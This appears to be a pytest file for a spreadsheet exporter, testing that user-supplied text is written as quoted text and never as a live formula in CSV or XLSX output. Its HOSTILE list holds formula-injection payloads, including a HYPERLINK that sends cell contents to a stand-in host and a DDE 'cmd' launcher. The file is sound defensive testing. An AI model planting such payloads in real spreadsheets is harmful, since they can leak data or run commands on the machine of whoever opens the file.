"""One guard for every spreadsheet cell and CSV field we write: what someone typed never becomes a formula."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from checker.spreadsheets import csv_field, csv_row
from tests.conftest import run_cli
from tests.test_audit import COMMUNITY, STANDARDS

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\u200b=1+1",  # a zero-width space first
    "\ufeff=1+1",  # a byte-order mark first
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_field_that_could_start_a_formula_is_kept_as_text(text: str) -> None:
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("text", ["康居社区", "a=b", "1+1", "", "社区-街道", "'=quoted already"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert csv_field(text) == text


def test_every_field_of_a_row_is_guarded() -> None:
    assert csv_row(["=a", 3, None, "b", "@c"]) == ["'=a", 3, None, "b", "'@c"]


def _no_formulas(path: Path) -> list[str]:
    """Every cell of a workbook file written as a formula (openpyxl reads those back with data_type "f")."""
    book = load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _community(tmp_path: Path, text: str) -> Path:
    source = COMMUNITY.read_text(encoding="utf-8")
    quoted = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    hostile = source.replace("name: 测试社区", f'name: "{quoted}"')
    hostile = hostile.replace(
        "R-police: {value: 是}", f'R-police: {{value: 是, note: "{quoted}", evidence: ["{quoted}"]}}'
    )
    assert hostile.count(quoted) == 3
    path = tmp_path / "hostile.yaml"
    path.write_text(hostile, encoding="utf-8")
    return path


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_the_audit_sheet_writes_no_formula(tmp_path: Path, text: str) -> None:
    """#11 §4: the XLSX audit sheet wrote a note starting with "=" as a live formula."""
    out = tmp_path / "sheet.xlsx"
    run = run_cli("audit-sheet", _community(tmp_path, text), *STANDARDS, "--format", "xlsx", "-o", out)
    assert run.code == 0, run.err
    assert _no_formulas(out) == []
    book = load_workbook(out)
    assert any(c.value == text for ws in book.worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_the_excel_form_writes_no_formula(tmp_path: Path, text: str) -> None:
    out = tmp_path / "form.xlsx"
    run = run_cli("convert", _community(tmp_path, text), out, *STANDARDS)
    assert run.code == 0, run.err
    assert _no_formulas(out) == []


def test_a_workbook_saved_with_a_time_is_the_same_bytes_at_any_moment(monkeypatch):
    """openpyxl stamps "now" into the document properties and every ZIP entry; ``save(book, when)`` stamps
    ``when`` instead, so a job retried later writes the bytes its first attempt wrote."""
    import io
    import time
    import zipfile
    from datetime import UTC, datetime

    from openpyxl import Workbook

    from checker.spreadsheets import save

    def book() -> Workbook:
        made = Workbook()
        made.active.append(["康居社区", "=1+1"])
        return made

    when = datetime(2026, 12, 4, 10, 30, tzinfo=UTC)
    first = save(book(), when)
    later = time.localtime(time.time() + 3 * 86400)
    monkeypatch.setattr(zipfile.time, "localtime", lambda *_: later)
    assert save(book(), when) == first
    loaded = load_workbook(io.BytesIO(first))
    assert loaded.properties.modified == loaded.properties.created == datetime(2026, 12, 4, 10, 30)
    assert loaded.active["B1"].value == "=1+1" and loaded.active["B1"].data_type == "s"  # still text
    assert {i.date_time for i in zipfile.ZipFile(io.BytesIO(first)).infolist()} == {(2026, 12, 4, 10, 30, 0)}
